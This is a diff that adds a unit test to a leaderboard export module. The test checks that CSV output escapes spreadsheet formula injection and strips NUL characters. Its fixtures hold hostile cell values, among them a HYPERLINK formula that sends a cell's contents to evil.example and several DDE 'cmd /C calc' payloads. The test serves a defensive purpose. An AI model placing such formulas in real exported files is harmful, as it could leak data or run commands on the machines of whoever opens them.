@@ -45,4 +45,32 @@ describe("leaderboard downloads", () => {
     const parsed = Papa.parse<Record<string, string>>(boardToCsv(odd), { header: true, skipEmptyLines: true });
     expect(parsed.data[0].model_name).toBe('A, "B"');
   });
+  it("escape text a spreadsheet would run as a formula (OWASP CSV injection) and strip NUL; numbers stay numbers", () => {
+    const e = board.entries[0];
+    const hostile = {
+      ...board,
+      entries: [
+        {
+          ...e,
+          setting: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+          model: { ...e.model, name: "+cmd|' /C calc'!A0", lab: "@SUM(1+1)*cmd|' /C calc'!A0" },
+          score: { ...e.score, note: "-2+3+cmd|' /C calc'!A0\u0000" },
+        },
+        { ...board.entries[1], setting: "\t=1+1", model: { ...board.entries[1].model, name: "\r=1+1" } },
+      ],
+    };
+    const csv = boardToCsv(hostile);
+    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+    expect(rows[0].setting).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
+    expect(rows[0].model_name).toBe("'+cmd|' /C calc'!A0");
+    expect(rows[0].lab).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(rows[0].score_note).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(rows[1].setting).toBe("'\t=1+1");
+    expect(rows[1].model_name).toBe("'\r=1+1");
+    // No cell of the file starts a formula, and no NUL is left.
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(csv).not.toContain("\u0000");
+    expect(boardToJson(hostile)).not.toContain("\\u0000");
+    expect(rows[0].score).toBe(String(e.score.value));
+  });
 });
